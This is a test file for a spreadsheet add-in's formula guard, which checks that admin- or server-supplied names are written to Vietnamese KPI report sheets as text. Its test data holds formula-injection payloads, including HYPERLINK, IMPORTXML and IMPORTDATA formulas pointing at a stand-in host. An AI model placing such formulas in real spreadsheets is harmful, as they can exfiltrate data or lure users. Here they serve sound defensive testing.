/**
 * Text that people typed (a plan's unit and field names, set by an administrator) and text the
 * server sends (the scorecard's names and chart labels) lands in cells as text, never as a
 * formula, whatever it starts with: = + - @ or an apostrophe, also behind white space, control or
 * invisible characters, and in their full-width forms.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { cellValue, safeText } from '../../addon/server/safe-text.js';
import type { ReportData } from '../../shared/report/schema.js';
import { buildOnce, openAddon, type AddonSession } from './helpers/addon.js';
import { startAddonStack, type AddonStack } from './helpers/stack.js';

const ADMIN = 'admin@localhost';
const PLAN = 'evil-2024';
const NAMES = ['=HYPERLINK("http://evil.example","bấm")', '+1+2', '-3', '@SUM(A1)', "'trích"];
const FIELDS = ['=1+1', '+SUM(A1:A9)', '-IMPORTXML("http://evil.example","//a")', '＝HYPERLINK("http://evil.example")', '\u200b@SUM(A1)'];

let stack: AddonStack;
let reporter: AddonSession;
let office: AddonSession;

/** received 10 = resolved 9 + pending 1, the same for every unit. */
const report: ReportData = {
  dossiers: [{ field: 'f-1', online: 4, direct: 6, carriedOver: 0, early: 5, onTime: 3, late: 1, pendingOnTime: 1, pendingOverdue: 0 }],
  procedures: { total: 10, oneStop: 9 },
  digital: { digitizedDossiers: 9, digitizedResults: 8, electronicResults: 7, feeDossiers: 5, paidOnline: 3, reusedData: 4, processedOnSystem: 10, certifiedCopies: 0, eCertifiedCopies: 0 },
  satisfaction: { ratings: 5, satisfied: 5, lciRatings: 0, lciSatisfied: 0 },
  feedback: { received: 0, resolved: 0, resolvedOnTime: 0 },
  tasks: [],
};

beforeAll(async () => {
  [, stack] = await Promise.all([buildOnce(), startAddonStack({ DEMO: '0' })]);
  const units = NAMES.map((name, i) => ({ id: `u-${i}`, name, kind: 'commune' }));
  const fields = FIELDS.map((name, i) => ({ id: `f-${i + 1}`, name, nameEn: `=${i}` }));
  expect((await stack.api(`/v1/plans/${PLAN}`, { as: ADMIN, method: 'PUT', body: { id: PLAN, name: '=IMPORTDATA("http://evil.example")', year: 2024, units, fields } })).status).toBe(201);
  await stack.api(`/v1/plans/${PLAN}/members/r@evil.vn`, { as: ADMIN, method: 'PUT', body: { role: 'reporter', unitId: 'u-0' } });
  await stack.api(`/v1/plans/${PLAN}/members/o@evil.vn`, { as: ADMIN, method: 'PUT', body: { role: 'reviewer' } });
  for (const unit of units) await stack.api(`/v1/plans/${PLAN}/reports`, { as: ADMIN, method: 'POST', body: { unitId: unit.id, period: '2024-Q1', data: report } });
  reporter = openAddon({ userEmail: 'r@evil.vn', ...stack.reachable });
  office = openAddon({ userEmail: 'o@evil.vn', ...stack.reachable });
}, 90_000);

afterAll(async () => {
  await Promise.all([reporter?.fake.dispose(), office?.fake.dispose()]);
  await stack?.stop();
});

/** Each cell as [shown value, formula]; a formula would show its result and keep its text in the second place. */
function cells(session: AddonSession, sheet: string, a1: string): [unknown, string][] {
  return session.fake.read(() => {
    const range = session.fake.spreadsheet.getSheetByName(sheet)!.getRange(a1);
    const formulas = range.getFormulas();
    return range.getValues().flatMap((row, r) => row.map((value, c): [unknown, string] => [value, formulas[r]![c]!]));
  });
}

describe('formula-looking names', () => {
  it('are written as text in the template', () => {
    reporter.call('saveSettings', { apiUrl: stack.apiUrl, planId: PLAN }, 'vi');
    reporter.call('insertTemplate', '2024-Q2', false, 'vi');
    expect(cells(reporter, '06a 2024-Q2', 'B6:B10')).toEqual(FIELDS.map((name) => [name, '']));
    const [subtitle, formula] = cells(reporter, '06a 2024-Q2', 'A2')[0]!;
    expect([String(subtitle).startsWith(`Đơn vị: ${NAMES[0]} · `), formula]).toEqual([true, '']);
  });

  it('are written as text in the scorecard table and in the chart data', () => {
    office.call('saveSettings', { apiUrl: stack.apiUrl, planId: PLAN }, 'vi');
    office.call('computeScorecard', '2024-Q1', 'vi');
    office.call('writeScorecardSheet', '2024-Q1', 'vi');
    // Equal data, equal scores: the units are ranked by name (Vietnamese collation) in rows 7–11.
    const table = cells(office, 'Bảng điểm KPI', 'B7:B11');
    expect(table.map(([, f]) => f)).toEqual(['', '', '', '', '']);
    expect(table.map(([v]) => v).sort()).toEqual([...NAMES].sort());
    // Not one formula anywhere in the written range, chart data (ranking labels "1. =HYPERLINK…") included.
    const formulas = office.fake.read(() => office.fake.spreadsheet.getSheetByName('Bảng điểm KPI')!.getDataRange().getFormulas().flat().filter(Boolean));
    expect(formulas).toEqual([]);
    const ranking = office.fake.read(() => office.fake.spreadsheet.getSheetByName('Bảng điểm KPI')!.getRange('V26:V31').getValues().flat());
    expect(ranking.filter((label) => String(label).includes('=HYPERLINK'))).toHaveLength(1);
    expect(cells(office, 'Bảng điểm KPI', 'A1')[0]![0]).toBe('BẢNG ĐIỂM KPI MỘT CỬA — =IMPORTDATA("http://evil.example") — Quý 1/2024');
  });
});

describe('the formula guard', () => {
  it('puts an apostrophe before text Sheets could read as a formula, once the skippable start is skipped', () => {
    const cases: [string, string][] = [
      ['=1+1', "'=1+1"],
      ['+84 912 345 678', "'+84 912 345 678"],
      ['-3', "'-3"],
      ['@SUM(A1)', "'@SUM(A1)"],
      ["'trích", "''trích"],
      [' =1+1', "' =1+1"], // a space
      ['\t+SUM(A1)', "'\t+SUM(A1)"], // a tab
      ['\n\r-1', "'\n\r-1"], // line breaks
      ['\u00a0=1', "'\u00a0=1"], // a non-breaking space
      ['\u3000=1', "'\u3000=1"], // an ideographic space
      ['\u0000=1', "'\u0000=1"], // a control character
      ['\u200b=1', "'\u200b=1"], // a zero-width space
      ['\u202e=1', "'\u202e=1"], // a right-to-left override
      ['\ufeff@x', "'\ufeff@x"], // a byte-order mark
      ['＝1+1', "'＝1+1"], // full-width =
      ['＋1', "'＋1"],
      ['－1', "'－1"],
      ['＠SUM(A1)', "'＠SUM(A1)"],
      ['\u3000＝HYPERLINK("x")', "'\u3000＝HYPERLINK(\"x\")"],
      ['﹦1', "'﹦1"], // small forms
      ['−1', "'−1"], // the minus sign
    ];
    expect(cases.map(([text]) => [text, safeText(text)])).toEqual(cases);
  });

  it('leaves ordinary text alone, whatever it holds further on', () => {
    const plain = ['Xã Đại Sơn', ' Xã Đại Sơn', 'A=B', '1-2', 'bao.cao@tuky.gov.vn', '2024-Q4', '(=)', ''];
    expect(plain.map(safeText)).toEqual(plain);
  });

  it('makes only strings safe: formulas the add-in writes stay formulas, numbers numbers', () => {
    expect([cellValue(null), cellValue({ formula: '=SUM(D6:F6)' }), cellValue(-3), cellValue(true), cellValue(' -3')]).toEqual(['', '=SUM(D6:F6)', -3, true, "' -3"]);
  });
});
